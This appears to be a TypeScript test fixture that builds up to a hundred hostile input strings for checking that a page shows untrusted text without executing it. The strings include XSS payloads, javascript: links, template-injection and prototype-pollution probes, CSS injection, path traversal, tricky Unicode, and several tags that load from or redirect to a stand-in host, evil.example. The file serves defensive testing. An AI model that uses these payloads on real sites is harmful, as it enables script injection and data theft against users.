/** The origin in the attack texts. The page must show the texts, and never run them or send requests to this origin. */
const attackerUrl = 'https://evil.example';

const markup = [
  '<img src=x onerror=isRun=1>',
  '<script>isRun=1</script>',
  '<svg/onload=isRun=1>',
  `"><script src=${attackerUrl}/x.js></script>`,
  `<iframe src="${attackerUrl}"></iframe>`,
  '<style>*{display:none}</style>',
  `<link rel=stylesheet href=${attackerUrl}/x.css>`,
  `<base href="${attackerUrl}/">`,
  `<meta http-equiv=refresh content="0;url=${attackerUrl}">`,
  '<a href="javascript:isRun=1">here</a>',
  `<form action=${attackerUrl}><input name=password autofocus onfocus=isRun=1>`,
  '</title></script></style></textarea></body>',
  '<!-- --><![CDATA[ ]]>',
  '<math><mtext><table><mglyph><style><img src=x onerror=isRun=1>',
  '<template><slot onslotchange=isRun=1></slot></template>',
  '&lt;b&gt;&amp;&nbsp;&#x202e;',
  '" autofocus onfocus="isRun=1',
  "' onmouseover='isRun=1",
];
const markdown = [
  '[here](javascript:isRun=1)',
  '[here]( JaVaScRiPt:isRun=1)',
  '[here](java\tscript:isRun=1)',
  '[here](data:text/html,<script>isRun=1</script>)',
  '[here](vbscript:isRun=1)',
  `![picture](${attackerUrl}/x.png)`,
  `[![picture](${attackerUrl}/x.png)](${attackerUrl})`,
  '**<b onclick=isRun=1>bold</b>**',
  '`<script>isRun=1</script>`',
  '> # - 1. ```',
  '[a]: javascript:isRun=1',
  '[](javascript:isRun=1) ****  ____ ``',
];
const templates = [
  '{{constructor.constructor("isRun=1")()}}',
  '${isRun=1}',
  '#{isRun=1}',
  '<%= isRun=1 %>',
  '[[isRun=1]]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '[object Object]',
  'undefined',
  'null',
  '0',
];
const styles = [
  ';}*{background:url(https://evil.example/x)}',
  'expression(isRun=1)',
  'style="position:fixed;inset:0"',
  'red;background:url(javascript:isRun=1)',
];
const addresses = [
  'javascript:isRun=1',
  '//evil.example',
  '\\\\evil.example\\x',
  '%3Cscript%3EisRun=1%3C/script%3E',
  '..%2F..%2F..%2Fetc',
  '?form=table&task=x#main',
  'https://evil.example/?a=1&b=2',
];
const letters = [
  '\u202eesrever si siht\u202c',
  '\u2067\u05d0\u05d1\u05d2 1 2 3\u2069',
  'مرحبا بالعالم 123 <b>',
  `zero\u200b\u200b\u200bwidth\ufeff\u2060`,
  `z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a`.repeat(8),
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(10),
  '😀'.repeat(100),
  '\u00a0\u3000\u2028x\u2029',
  'ﷺ'.repeat(60),
  '\t tab \t',
];
const long = [
  'w'.repeat(255),
  '-'.repeat(255),
  `${attackerUrl}/${'x'.repeat(200)}`,
  '<b>'.repeat(80),
  '漢'.repeat(255),
  'a_b.'.repeat(60),
];

const single = [...markup, ...markdown, ...templates, ...styles, ...addresses, ...letters, ...long];

const cut = (text: string): string =>
  Array.from(text).reduce(
    (truncated, letter) => (truncated.length + letter.length > 255 ? truncated : truncated + letter),
    '',
  );

/** A hundred attack texts of at most 255 characters each, alone and in combination. */
export const hostileTexts: readonly string[] = [
  ...new Set(
    [...single, ...single.map((text, index) => `${single[(index * 7 + 3) % single.length]} ${text}`)].map(cut),
  ),
].slice(0, 100);
